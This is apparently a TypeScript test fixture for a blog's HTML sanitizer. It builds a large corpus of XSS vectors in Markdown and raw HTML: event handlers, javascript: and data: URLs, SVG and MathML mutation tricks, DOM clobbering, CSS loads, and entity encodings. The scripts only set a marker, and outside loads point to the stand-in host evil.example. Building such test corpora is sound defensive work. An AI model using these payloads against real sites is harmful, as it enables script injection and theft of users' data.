/**
 * Hostile post bodies: Markdown, with raw HTML in it, as an author or anyone
 * who can write to content/blog (or the posts table) could write it. Written for this site, after
 * the classes of DOMPurify's own fixtures (test/fixtures/expect.mjs): event handlers,
 * `javascript:` and `data:` URLs, SVG and MathML namespace confusion, mutation XSS, DOM
 * clobbering, CSS, `template`/`noscript`, entity and Unicode encodings; plus what a post page adds:
 * frames, forms and document-level elements (`base`, `meta`, `link`), and Markdown's own syntax.
 *
 * Every script in a vector tries `top.__xss = '<id>'`, and everything that would load something
 * loads it from `https://evil.example/<id>`: a vector that gets through says which one it was.
 * Each vector closes what it opens (as far as the attack allows), so that vectors can share a page
 * in the browser test without one swallowing the next; the unit test checks that they do.
 */
export type VectorClass =
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'svg'
  | 'mathml'
  | 'mutation'
  | 'clobbering'
  | 'css'
  | 'template-noscript'
  | 'encoding'
  | 'embedding'
  | 'markdown'

export type HostileVector = { id: string; class: VectorClass; markdown: string }

/** The host every foreign load in the corpus points at (reserved: it never resolves). */
export const evilHost = 'evil.example'

/** The global a vector's script sets; the browser test watches it. */
export const marker = '__xss'

type Make = (v: { id: string; js: string; url: string }) => string

function group(kind: VectorClass, prefix: string, makers: Make[]): HostileVector[] {
  return makers.map((make, index) => {
    const id = `${prefix}-${String(index + 1).padStart(2, '0')}`
    const js = `top.${marker}='${id}'`
    const url = `https://${evilHost}/${id}`
    return { id, class: kind, markdown: make({ id, js, url }) }
  })
}

const eventHandlers = group('event-handler', 'on', [
  ({ js }) => `<img src="x" onerror="${js}">`,
  ({ js }) => `Text with <img src=x onerror=${js}> inline.`,
  ({ js }) => `<IMG SRC="x" ONERROR="${js}">`,
  ({ js }) => `<img src="x" oNeRrOr  =  "${js}">`,
  ({ js }) => `<div><img/src="x"/onerror="${js}"></div>`,
  ({ js }) => `<div><img src="x" onerror="${js}"//></div>`,
  ({ js }) => `<image src="x" onerror="${js}">`,
  ({ js }) => `<input autofocus onfocus="${js}">`,
  ({ js }) => `<textarea autofocus onfocus="${js}">text</textarea>`,
  ({ js }) => `<select autofocus onfocus="${js}"><option>one</option></select>`,
  ({ js }) => `<details open ontoggle="${js}"><summary>More</summary>Hidden</details>`,
  ({ js }) => `<video><source src="x" onerror="${js}"></video>`,
  ({ js }) => `<audio src="x" onerror="${js}"></audio>`,
  ({ js }) => `<video poster="x" src="x" onerror="${js}"></video>`,
  ({ js }) => `<div onmouseover="${js}">Hover over me</div>`,
  ({ js }) => `<a href="#" onclick="${js}">Click me</a>`,
  ({ js }) => `<p onpointerenter="${js}" onanimationstart="${js}">Pointer</p>`,
  ({ js }) => `<div tabindex="0" autofocus onfocusin="${js}">Focus</div>`,
  ({ js }) => `<marquee onstart="${js}">Scrolling</marquee>`,
  ({ js }) => `<body onload="${js}" onpageshow="${js}">`,
  ({ js }) => `<input type="image" src="x" onerror="${js}">`,
  ({ js }) => `<custom-card onclick="${js}" onfocus="${js}" tabindex="0">Custom</custom-card>`,
  ({ js }) => `<object data="x" onerror="${js}"></object>`,
  ({ js }) => `<img src="x" onerror="${js}" onerror="${js}" onload="${js}">`,
  ({ js }) => `<frameset onload="${js}"><frame src="x"></frameset>`,
  ({ js }) => `<button onfocus="${js}" autofocus>Button</button>`,
  ({ js }) => `<img src="x" onerror\n="${js}">`,
])

const javascriptUrls = group('javascript-url', 'js', [
  ({ js }) => `[Click](javascript:${js})`,
  ({ js }) => `[Click](JAVASCRIPT:${js})`,
  ({ js }) => `[Click](<javascript:${js}>)`,
  ({ js }) => `[Click][ref]\n\n[ref]: javascript:${js}`,
  ({ js }) => `<javascript:${js}>`,
  ({ js }) => `![Picture](javascript:${js})`,
  ({ js }) => `<a href="javascript:${js}">Click</a>`,
  ({ js }) => `<a href=" javascript:${js}">Leading space</a>`,
  ({ js }) => `<a href="java\tscript:${js}">Literal tab</a>`,
  ({ js }) => `<a href="java\nscript:${js}">Literal newline</a>`,
  ({ js }) => `<a href="\u0001java\u0003script:${js}">Control characters</a>`,
  ({ js }) => `<a href="  JaVaScRiPt:${js}">Mixed case</a>`,
  ({ js }) => `<a href="javascript://%0a${js}">Comment and newline</a>`,
  ({ js }) => `<form action="javascript:${js}"><button>Send</button></form>`,
  ({ js }) => `<form><button formaction="javascript:${js}">Send</button></form>`,
  ({ js }) => `<form><input type="submit" formaction="javascript:${js}" value="Send"></form>`,
  ({ js }) => `<iframe src="javascript:${js}"></iframe>`,
  ({ js }) => `<object data="javascript:${js}"></object>`,
  ({ js }) => `<embed src="javascript:${js}">`,
  ({ js }) => `<a href="vbscript:msgbox(1)" title="${js}">VBScript</a>`,
  ({ js }) =>
    `<img src="x" usemap="#m"><map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:${js}"></map>`,
  ({ js }) => `<base href="javascript:${js}//"><a href="page">Relative link</a>`,
  ({ js }) => `<a href="javascript:${js}" target="_blank">New window</a>`,
  ({ js }) => `<table background="javascript:${js}"><tr><td>cell</td></tr></table>`,
  ({ js }) => `<blockquote cite="javascript:${js}">Quoted</blockquote>`,
  ({ js }) => `<button form="f" formaction="javascript:${js}">Outside a form</button>`,
  ({ js }) => `<a href="javascript:/*--></a><b>*/${js}">Comment trick</a>`,
])

const dataUrls = group('data-url', 'data', [
  ({ js }) => `[Open](data:text/html,<script>${js}</script>)`,
  ({ js }) => `![Picture](data:image/svg+xml,%3Csvg%20onload=%22${js}%22/%3E)`,
  ({ js }) => `<a href="data:text/html;base64,${btoa(`<script>${js}</script>`)}">Open</a>`,
  ({ js }) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  ({ js }) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  ({ js }) => `<embed src="data:image/svg+xml,<svg onload=&quot;${js}&quot;/>">`,
  () =>
    `<img src="data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg"/>')}">`,
  () => `<img srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x" alt="set">`,
  () => `<video src="data:video/mp4;base64,AAAA"></video>`,
  () => `<audio src="data:audio/wav;base64,UklGRg=="></audio>`,
  () =>
    `<video><source src="data:video/webm;base64,GkXf"><track src="data:text/vtt,WEBVTT"></video>`,
  ({ js }) => `<a href="DATA:text/html,<script>${js}</script>">Upper case</a>`,
  ({ js }) => `<a href="\n data:text/html,<script>${js}</script>">Whitespace</a>`,
  ({ js }) => `<form action="data:text/html,<script>${js}</script>"><button>Go</button></form>`,
  () => `<link rel="stylesheet" href="data:text/css,p{color:red}">`,
  () => `<input type="image" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
])

const svg = group('svg', 'svg', [
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg onload="${js}"></svg>`,
  ({ js }) => `<svg><foreignObject><img src="x" onerror="${js}"></foreignObject></svg>`,
  ({ js }) => `<svg><style><img src="x" onerror="${js}"></style></svg>`,
  ({ js }) => `<svg></p><style><a id="</style><img src=x onerror=${js}>"></style></svg>`,
  ({ js }) =>
    `<svg><a><animate attributeName="href" values="javascript:${js}"/><text y="20">Go</text></a></svg>`,
  ({ js }) => `<svg><set attributeName="onload" to="${js}"/></svg>`,
  ({ url }) => `<svg><use href="${url}#shape"/></svg>`,
  ({ url }) => `<svg><image href="${url}" width="10" height="10"/></svg>`,
  ({ url }) => `<svg><filter id="f"><feImage href="${url}"/></filter></svg>`,
  ({ js }) => `<svg><title><img src="x" onerror="${js}"></title></svg>`,
  ({ js }) => `<svg><desc><style></desc><img src="x" onerror="${js}"></style></desc></svg>`,
  ({ js }) => `<svg><![CDATA[><img src="x" onerror="${js}">]]></svg>`,
  ({ url }) => `<svg><script href="${url}"></script></svg>`,
  ({ js }) =>
    `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${js}</handler></svg>`,
  ({ js }) => `<svg><a href="javascript:${js}"><circle r="40"/></a></svg>`,
  ({ js }) => `<svg><a xlink:href="javascript:${js}"><rect width="9" height="9"/></a></svg>`,
  ({ js }) => `<svg><p><style><img src="x" onerror="${js}"></style></p></svg>`,
  ({ js }) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`,
  ({ js }) => `<svg><discard onbegin="${js}"/></svg>`,
  ({ url }) => `<svg><use xlink:href="${url}#x"/></svg>`,
  ({ js }) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${js.slice(4)}</script>"></iframe></foreignObject></svg>`,
])

const mathml = group('mathml', 'math', [
  ({ js }) =>
    `<math><mtext><table><mglyph><style><img src="x" onerror="${js}"></style></mglyph></table></mtext></math>`,
  ({ js }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src="x" onerror="${js}"></style></mglyph></form></mtext></math></form>`,
  ({ js }) =>
    `<math><maction actiontype="statusline" xlink:href="javascript:${js}">Click</maction></math>`,
  ({ js }) => `<math href="javascript:${js}"><mi>x</mi></math>`,
  ({ js }) =>
    `<math><annotation-xml encoding="text/html"><img src="x" onerror="${js}"></annotation-xml></math>`,
  ({ js }) => `<math><mi><svg><script>${js}</script></svg></mi></math>`,
  ({ js }) => `<math><style><img src="x" onerror="${js}"></style></math>`,
  ({ js }) =>
    `<math><mtext><select><mglyph><style><img src="x" onerror="${js}"></style></mglyph></select></mtext></math>`,
  ({ url }) =>
    `<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="${url}"></iframe></annotation-xml></semantics></math>`,
  ({ js }) =>
    `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${js}>"></path></textarea></mtext></svg></mglyph></table></mtext></math>`,
  ({ js }) =>
    `<math><mi xlink:href="data:x,<script>${js}</script>">x</mi><mo onclick="${js}">+</mo></math>`,
  ({ js }) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${js}>"></a></style></mtext></svg></mglyph></h1></mtext></math>`,
])

const mutation = group('mutation', 'mx', [
  ({ js }) => `<listing>&lt;img src=x onerror="${js}"&gt;</listing>`,
  ({ js }) => `<textarea>text</textarea><!--</textarea><img src=x onerror=${js}>-->`,
  ({ js }) => `<div><img src=x id/=' onerror=${js}//'></div>`,
  ({ js }) => `<style><img src="</style><img src=x onerror=${js}//"></style>`,
  ({ js }) => `<xmp><p title="</xmp><img src=x onerror=${js}>"></p></xmp>`,
  ({ js }) => `<iframe><img title="</iframe><img src=x onerror=${js}>"></iframe>`,
  ({ js }) => `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`,
  ({ js }) => `<noframes><img title="</noframes><img src=x onerror=${js}>"></noframes>`,
  ({ js }) => `<title><img title="</title><img src=x onerror=${js}>"></title>`,
  ({ js }) =>
    `<select><option><style></option></select><b><img src=x onerror=${js}></style></option></select></b>`,
  ({ js }) => `<table><style><img src=x onerror=${js}></style></table>`,
  ({ js }) => `<!--><img src=x onerror=${js}>-->`,
  ({ js }) => `<!--!><img src=x onerror=${js}>-->`,
  ({ js }) => `<p title="</script><script>${js}</script>">Title with a script end</p>`,
  ({ js }) => `<p title="</p><img src=x onerror=${js}>">Title with a paragraph end</p>`,
  ({ js }) => `<?xml ><img src=x onerror=${js}>?>`,
  ({ js }) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  ({ js }) =>
    `<div title="&#x3c;/div&#x3e;&#x3c;script&#x3e;${js}&#x3c;/script&#x3e;">Encoded title</div>`,
  ({ js }) => `<a title="--><img src=x onerror=${js}>"><!-- comment --></a>`,
  ({ js }) =>
    `<table><td><svg><foreignObject><p><style><img src=x onerror=${js}></style></p></foreignObject></svg></td></table>`,
  ({ js }) => `<b <script>${js}</script>0</script></b>`,
  ({ js }) => `<div><input value="\`\`onmouseover=${js}"></div>`,
  ({ js }) => `<a href="x" title="</a><script>${js}</script><a>">Link</a>`,
  ({ js }) => `<p>Text</p></div></article><script>${js}</script><article><div>Fake</div></article>`,
  ({ js }) => `<code title="</code></pre></p><img src=x onerror=${js}>">Code</code>`,
  ({ js }) => `<svg><style><![CDATA[</style><img src=x onerror=${js}>]]></style></svg>`,
])

const clobbering = group('clobbering', 'dc', [
  () => `<img src="x" name="cookie">`,
  () => `<form id="getElementById"><input name="x"></form>`,
  () => `<img src="x" name="createElement"><img src="y" id="createElement">`,
  ({ url }) => `<a id="location" href="${url}">Location</a>`,
  () => `<form name="body"><input name="children"></form>`,
  () => `<a id="$_TSR">Router state</a><a id="$_TSR" name="router">Router state</a>`,
  () => `<img src="x" name="forms"><img src="x" name="scripts">`,
  () => `<form name="querySelector"></form><form name="querySelectorAll"></form>`,
  () => `<iframe name="name"></iframe><img src="x" name="defaultView">`,
  () => `<form id="f1"><input name="attributes"><input name="attributes"></form>`,
  () => `<form id="f2"><input name="nodeName"><input name="parentNode"></form>`,
  ({ url }) => `<a id="config" href="${url}">A</a><a id="config" name="VITE_API_BASE_URL">B</a>`,
  () => `<h2 id="page-title">Not the page title</h2><h2 id="share-heading">Not the share row</h2>`,
  () => `<div id="root">A second root</div><div id="related-heading">A second label</div>`,
  () => `<img src="x" name="documentElement"><img src="x" name="head">`,
  () => `<img src="x" name="implementation"><img src="x" name="currentScript">`,
  () => `<form name="activeElement"></form><img src="x" name="referrer">`,
  () => `<a id="__proto__">proto</a><a id="constructor">constructor</a>`,
  () => `<a id="localStorage">store</a><a id="fetch">fetch</a><a id="alert">alert</a>`,
  ({ url }) => `<a id="defaultAvatar"></a><a id="defaultAvatar" name="avatar" href="${url}">X</a>`,
  () => `<form id="feedback-form"><input name="email"></form><input form="feedback-form" name="x">`,
  () => `<label for="page-title">Label for the page heading</label>`,
])

const css = group('css', 'css', [
  ({ url }) => `<style>@import url(${url});</style>`,
  ({ url }) => `<style>body{background:url(${url})}</style>`,
  ({ url }) => `<p style="background:url(${url})">Styled</p>`,
  ({ url }) => `<div style="background-image:image-set('${url}' 1x)">Image set</div>`,
  ({ url }) => `<style>@font-face{font-family:x;src:url(${url})}p{font-family:x}</style>`,
  () => `<style>*{position:fixed!important;inset:0;z-index:2147483647;background:#000}</style>`,
  () => `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Overlay</div>`,
  ({ url }) => `<style>input[value^=a]{background:url(${url}?a)}</style>`,
  ({ url }) => `<link rel="stylesheet" href="${url}.css">`,
  ({ url }) => `<svg><style>@import '${url}';</style></svg>`,
  ({ url }) => `<style>@\\69mport url(${url});</style>`,
  ({ js }) => `<p style="width:expression(${js})">Expression</p>`,
  ({ url }) => `<p style="behavior:url(${url}.htc)">Behaviour</p>`,
  ({ url }) => `<div style="--x:url(${url});background:var(--x)">Variable</div>`,
  ({ url }) => `<style>p{cursor:url(${url}),auto}</style>`,
  ({ url }) => `<math><style>@import url(${url});</style></math>`,
  ({ url }) => `<p><style>li{list-style:url(${url})}</style></p>`,
  ({ url }) => `<svg><rect width="9" height="9" style="fill:url(${url}#g)"/></svg>`,
])

const templateNoscript = group('template-noscript', 'tn', [
  ({ js }) => `<template><img src="x" onerror="${js}"></template>`,
  ({ js }) => `<template><script>${js}</script></template>`,
  ({ js }) => `<noscript><img src="x" onerror="${js}"></noscript>`,
  ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></p></noscript>`,
  ({ js }) => `<noscript><style></noscript><img src=x onerror=${js}></style></noscript>`,
  ({ js }) => `<template><style></template><img src=x onerror=${js}></style></template>`,
  ({ js }) =>
    `<b><template><s><template><s><img src=x onerror=${js}>deep</s></template></s></template></b>`,
  ({ js }) => `<div><template shadowrootmode="open"><img src=x onerror=${js}></template></div>`,
  ({ url }) =>
    `<div><template shadowrootmode="open"><style>:host{background:url(${url})}</style><slot></slot></template>Shadow</div>`,
  ({ js }) => `<noscript><!--</noscript><img src=x onerror=${js}>--></noscript>`,
  ({ js }) => `<table><template><img src=x onerror=${js}></template></table>`,
  ({ url }) => `<noscript><a title="</noscript><iframe src=${url}>"></a></noscript>`,
  ({ js }) => `<select><template><img src=x onerror=${js}></template></select>`,
  ({ js }) =>
    `<template><iframe srcdoc="<script>parent.${js.slice(4)}</script>"></iframe></template>`,
  ({ url }) => `<div><noscript><img src="${url}"></noscript></div>`,
  ({ js }) =>
    `<div><template shadowrootmode="closed" shadowrootdelegatesfocus><button autofocus onfocus="${js}">B</button></template></div>`,
  ({ js }) => `<svg><template><img src=x onerror=${js}></template></svg>`,
  ({ js }) => `<object><noscript><img src=x onerror=${js}></noscript></object>`,
])

const encodings = group('encoding', 'enc', [
  ({ js }) => `<a href="&#x6A;avascript:${js}">Hex entity</a>`,
  ({ js }) =>
    `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${js}">Padded decimal</a>`,
  ({ js }) => `<a href="java&#x0A;script:${js}">Encoded newline</a>`,
  ({ js }) => `<a href="javascript&#58;${js}">Encoded colon</a>`,
  ({ js }) => `<a href="javascript&colon;${js}">Named colon</a>`,
  ({ js }) => `<a href="&#x20;javascript:${js}">Encoded space</a>`,
  ({ js }) => `<a href="\u2028javascript:${js}">Line separator</a>`,
  ({ js }) => `<a href="\u00a0javascript:${js}">No-break space</a>`,
  ({ js }) => `<a href="&#xFEFF;javascript:${js}">Byte-order mark</a>`,
  ({ id }) => `<img src="x" onerror="&#x74;op.__xss=&#39;${id}&#39;">`,
  ({ js }) => `[Markdown hex entity](&#x6A;avascript:${js})`,
  ({ js }) => `[Markdown entity in the middle](jav&#x61;script:${js})`,
  ({ js }) => `<a href="jav&#x61;script:${js}">Entity in the middle</a>`,
  ({ js }) => `<a href="%6Aavascript:${js}">Percent-encoded</a>`,
  ({ js }) => `<a href="&Tab;javascript:${js}">Named tab</a>`,
  ({ js }) => `<a href="&NewLine;javascript:${js}">Named newline</a>`,
  ({ id }) => `<img src="x" onerror="\\u0074op.__xss='${id}'">`,
  ({ js }) =>
    `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${js}">No semicolons</a>`,
  ({ js }) => `<a href="javas&#99;ript&#x3A;${js}">Two entities</a>`,
  ({ js }) => `+ADw-script+AD4-${js}+ADw-/script+AD4- (UTF-7)`,
  ({ js }) => `<\u017Fcript>${js}</\u017Fcript> <\u017Fvg onload="${js}"></\u017Fvg>`,
  ({ js }) => `<a href="&#x000000006a;avascript:${js}">Long hex</a>`,
  ({ js }) => `&lt;img src=x onerror=${js}&gt; and &amp;lt;script&amp;gt;`,
  ({ js }) => `<a href="j\u0000avascript:${js}">Null character</a>`,
  ({ js }) => `<img src="x" alt="&lt;img src=x onerror=${js}&gt;">`,
  ({ js }) => `<a href="javascript\u2029:${js}">Paragraph separator</a>`,
])

const embedding = group('embedding', 'emb', [
  ({ url }) => `<iframe src="${url}"></iframe>`,
  ({ js }) => `<iframe srcdoc="<script>parent.${js.slice(4)}</script>"></iframe>`,
  ({ url }) => `<object data="${url}"></object>`,
  ({ url }) => `<embed src="${url}">`,
  ({ url }) => `<base href="${url}/"><img src="relative.png" alt="relative">`,
  ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  ({ url }) => `<link rel="import" href="${url}">`,
  ({ url }) => `<link rel="prefetch" href="${url}"><link rel="preload" as="image" href="${url}">`,
  ({ url }) => `![Picture](${url}.png)`,
  ({ url }) => `<img srcset="${url} 1x, ${url}-2x 2x" alt="set">`,
  ({ url }) => `<picture><source srcset="${url}"><img src="x" alt="picture"></picture>`,
  ({ url }) => `<video poster="${url}"></video>`,
  ({ url }) => `<audio src="${url}" autoplay></audio>`,
  ({ url }) => `<video><track src="${url}" default></video>`,
  ({ url }) => `<a ping="${url}" href="/blogs">Pinging link</a>`,
  ({ url }) => `<form action="${url}"><input name="q"><button>Search</button></form>`,
  ({ url }) => `<button form="feedback-form" formaction="${url}">Hijack a page form</button>`,
  ({ url }) => `<frameset><frame src="${url}"></frameset>`,
  ({ url }) => `<script src="${url}.js"></script>`,
  ({ js }) => `<script>${js}</script>`,
  ({ url }) => `<img src="//${url.slice(8)}">`,
  ({ url }) => `<img src="\\\\${url.slice(8).replace('/', '\\')}">`,
  ({ url }) => `<img src="https:${url.slice(6)}">`,
  ({ url }) => `<input type="image" src="${url}">`,
  ({ url }) => `<body background="${url}"><table background="${url}"></table>`,
  ({ url }) => `<object type="text/html" data="//${url.slice(8)}"></object>`,
  ({ url }) => `<applet code="X" codebase="${url}"></applet>`,
  ({ url }) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  ({ url }) => `<object><param name="src" value="${url}"></object>`,
  ({ url }) => `<link rel="preload" as="image" imagesrcset="${url} 1x">`,
  ({ url }) => `<video src="${url}" preload="auto" autoplay muted></video>`,
  ({ url }) => `<img src="x" lowsrc="${url}" dynsrc="${url}">`,
  ({ url }) => `<html manifest="${url}"><head><title>Replaced title</title></head></html>`,
  ({ url }) => `<a href="${url}" target="_blank">Tab-napping link</a>`,
  ({ url }) => `<img src="x" srcset="${url}.png 100w" sizes="100vw">`,
])

const markdown = group('markdown', 'md', [
  ({ js }) => `[Titled](javascript:${js} "title")`,
  ({ js }) => `[Title escape](/blogs "title\\" onclick=\\"${js}")`,
  ({ js }) => `![Alt" onerror="${js}](x)`,
  ({ js }) => `[<img src=x onerror=${js}>](/blogs)`,
  ({ js }) => `Code span: \`<img src=x onerror=${js}>\``,
  ({ js }) => `\`\`\`html\n<script>${js}</script>\n\`\`\``,
  ({ js }) => `\`\`\`"><img src=x onerror=${js}>\ncode\n\`\`\``,
  ({ js }) => `| Head |\n| --- |\n| <img src=x onerror=${js}> |`,
  ({ js }) => `[Reference][r]\n\n[r]: /blogs "<img src=x onerror=${js}>"`,
  ({ url, js }) => `<${url}" onclick="${js}>`,
  ({ js }) => `www.${evilHost}/"onclick="${js}`,
  ({ js }) => `<a@b.example?subject=x"onmouseover="${js}>`,
  ({ js }) => `# Heading <img src=x onerror=${js}>`,
  ({ js }) => `**<a href="javascript:${js}">Bold</a>**`,
  ({ js }) => `<div>\n\n[Inside a block](javascript:${js})\n\n</div>`,
  ({ js }) => `[Angle](<https://x.example/"><img src=x onerror=${js}>>)`,
  ({ js }) => `[Spaces](  javascript:${js}  )`,
  ({ js }) => `![Titled picture](/x.png "\\" onerror=\\"${js}")`,
  ({ js }) => `Setext <img src=x onerror=${js}>\n===`,
  ({ url }) => `![Protocol-relative](//${url.slice(8)}.png)`,
  ({ js }) => `- [x] <img src=x onerror=${js}>\n- [ ] task`,
  ({ js }) => `~~<img src=x onerror=${js}>~~`,
  ({ js }) => `> <script>${js}</script>\n> quoted`,
  ({ js }) => `<!-- --><img src=x onerror=${js}>`,
  ({ url }) => `![Reference picture][pic]\n\n[pic]: ${url}.png`,
  ({ js }) => `[Nested [brackets](javascript:${js})](/blogs)`,
  ({ js }) => `<details><summary>Sum</summary>\n\n[Link](javascript:${js})\n\n</details>`,
  ({ js }) => `    <script>${js}</script>\n\nIndented code above.`,
])

export const corpus: readonly HostileVector[] = [
  ...eventHandlers,
  ...javascriptUrls,
  ...dataUrls,
  ...svg,
  ...mathml,
  ...mutation,
  ...clobbering,
  ...css,
  ...templateNoscript,
  ...encodings,
  ...embedding,
  ...markdown,
]
